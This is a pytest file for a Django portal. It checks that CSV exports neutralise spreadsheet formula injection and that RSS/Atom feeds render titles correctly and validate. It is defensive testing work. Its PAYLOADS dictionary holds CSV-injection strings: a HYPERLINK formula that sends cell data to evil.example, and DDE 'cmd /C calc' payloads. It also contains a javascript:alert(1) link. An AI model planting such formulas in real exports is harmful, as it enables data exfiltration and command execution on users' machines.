"""CSV exports that spreadsheets open as text, and feeds that readers show as typed.

CSV: a practice and a milestone whose texts start with each character a spreadsheet takes as
the start of a formula (``=``, ``+``, ``-``, ``@``, tab, carriage return; OWASP "CSV
Injection") come back, read with Python's csv module, as text with a leading ``'``: no cell of
either export starts with such a character. Both files start with a UTF-8 byte order mark.

Feeds: an apostrophe and an ampersand come through feedparser unchanged (escaped once, not
twice), an entry in the other language says so, and the Atom feed is valid against the RELAX NG
grammar of RFC 4287 (Appendix B) according to jing.
"""

from __future__ import annotations

import csv
import io
from datetime import date
from html.parser import HTMLParser

import feedparser
import pytest

from cooperation_portal.spreadsheets import FORMULA_STARTS, safe_cell
from exchanges.models import Workstream
from exchanges.plan import services as plan_services
from exchanges.plan.demo import seed_plan
from tests import factories
from tests.conformance.checkers import ATOM_SCHEMA, jing

pytestmark = pytest.mark.django_db

#: A dangerous start, and what follows it in the typed text.
PAYLOADS = {
    "=": '=HYPERLINK("https://evil.example/?"&A1,"Open")',
    "+": "+1+cmd|' /C calc'!A0",
    "-": "-2+cmd|' /C calc'!A0",
    "@": "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t": "\t=1+1",
    "\r": "\r=1+1",
}


def _rows(response) -> list[list[str]]:
    raw = b"".join(response.streaming_content) if response.streaming else response.content
    assert raw.startswith("\ufeff".encode()), "no byte order mark: Excel would guess Shift_JIS"
    return list(csv.reader(io.StringIO(raw.decode("utf-8-sig"), newline="")))


def _assert_no_formula(rows: list[list[str]]) -> None:
    starts = [cell for row in rows for cell in row if cell.startswith(FORMULA_STARTS)]
    assert starts == [], starts


@pytest.mark.parametrize("start", list(PAYLOADS))
def test_practice_texts_starting_a_formula_come_back_as_text(client, start):
    typed = PAYLOADS[start]
    practice = factories.practice(title_en=typed, summary_en=typed, title_ja=typed)
    rows = _rows(client.get("/en/practices/export.csv"))
    _assert_no_formula(rows)
    header, *data = rows
    (row,) = [dict(zip(header, r, strict=True)) for r in data]
    # The editor trims the titles (a leading tab or CR does not survive it); what is stored
    # comes back behind a quote.
    for name in ("title_en", "title_ja", "summary_en"):
        stored = getattr(practice, name)
        assert stored.startswith(FORMULA_STARTS)
        assert row[name] == "'" + stored, name


@pytest.mark.parametrize("start", list(PAYLOADS))
def test_milestone_texts_starting_a_formula_come_back_as_text(client, start):
    typed = PAYLOADS[start]
    coordinator = factories.coordinator("isinnova")
    seed_plan(coordinator=coordinator)
    workstream = Workstream.objects.select_related("plan")[0]
    plan_services.milestone_create(
        plan=workstream.plan,
        by=coordinator,
        data=plan_services.MilestoneData(
            code="X-1",
            title_en=typed,
            title_ja=typed,
            workstream=workstream,
            start_date=date(2024, 1, 1),
            due_date=date(2031, 1, 1),
            owner_cities=[factories.city("kamakura")],
        ),
    )
    client.force_login(coordinator)
    rows = _rows(client.get("/en/action-plan/export.csv"))
    _assert_no_formula(rows)
    header, *data = rows
    row = next(dict(zip(header, r, strict=True)) for r in data if r[0] == "X-1")
    assert (row["title_en"], row["title_ja"]) == ("'" + typed, "'" + typed)


class _Text(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.parts: list[str] = []

    def handle_data(self, data: str) -> None:
        self.parts.append(data)


def _shown(html: str) -> str:
    """The text a reader shows for an HTML fragment."""
    parser = _Text()
    parser.feed(html)
    parser.close()
    return "".join(parser.parts)


def _title_shown(detail) -> str:
    """A title as a reader shows it: HTML rendered, text as it is."""
    return _shown(detail.value) if detail.type == "text/html" else detail.value


@pytest.mark.parametrize(
    "typed",
    [
        "Brno's R&D hub",
        "Brno's R&D <lab> for 5 < 7",
        "Tom &amp; Jerry's &#x27;café&#x27;",
        '<a href="javascript:alert(1)">Brno\'s</a>',
    ],
)
def test_titles_reach_the_reader_as_typed(client, typed):
    factories.practice(title_en=typed)
    for url in ("/en/practices/feed/", "/en/practices/feed/atom/"):
        parsed = feedparser.parse(client.get(url).content)
        assert not parsed.bozo, parsed.bozo_exception
        (entry,) = parsed.entries
        assert _title_shown(entry.title_detail) == typed, (url, entry.title_detail)


def test_an_apostrophe_and_an_ampersand_reach_the_reader_unchanged(client):
    factories.practice(title_en="Brno's R&D", summary_en="Trams & buses in Brno's centre: 5 < 7")
    for url in ("/en/practices/feed/", "/en/practices/feed/atom/"):
        parsed = feedparser.parse(client.get(url).content)
        assert not parsed.bozo, parsed.bozo_exception
        (entry,) = parsed.entries
        assert entry.title == "Brno's R&D", url
        # The summary is HTML (as readers take it): shown, it reads as typed.
        assert entry.summary_detail.type == "text/html"
        assert _shown(entry.summary) == "Trams & buses in Brno's centre: 5 < 7", url


def test_an_entry_in_the_other_language_says_so(client):
    factories.practice(title_en="Both languages", title_ja="両方の言語")
    factories.practice(original_language="ja", title_en="", title_ja="日本語だけの事例")
    for url in ("/en/practices/feed/", "/en/practices/feed/atom/"):
        parsed = feedparser.parse(client.get(url).content)
        languages = {e.title: e.title_detail.get("language") for e in parsed.entries}
        assert languages["日本語だけの事例"] == "ja", (url, languages)
        assert languages["Both languages"] in ("en", None), (url, languages)


def test_the_atom_feed_is_valid_rfc_4287(client, tmp_path):
    factories.practice(title_en="Brno's R&D", summary_en="Trams & buses")
    factories.practice(original_language="ja", title_en="", title_ja="日本語だけの事例")
    for language in ("en", "ja"):
        atom = client.get(f"/{language}/practices/feed/atom/").content
        assert jing(ATOM_SCHEMA, atom, tmp_path) == [], atom.decode()


@pytest.mark.parametrize("start", list(PAYLOADS))
def test_every_dangerous_start_is_neutralised_and_other_cells_are_kept(start):
    assert safe_cell(PAYLOADS[start]) == "'" + PAYLOADS[start]
    for kept in ("Brno", "防災", "", "1-2", 5, -5, date(2030, 1, 1), None):
        assert safe_cell(kept) == kept
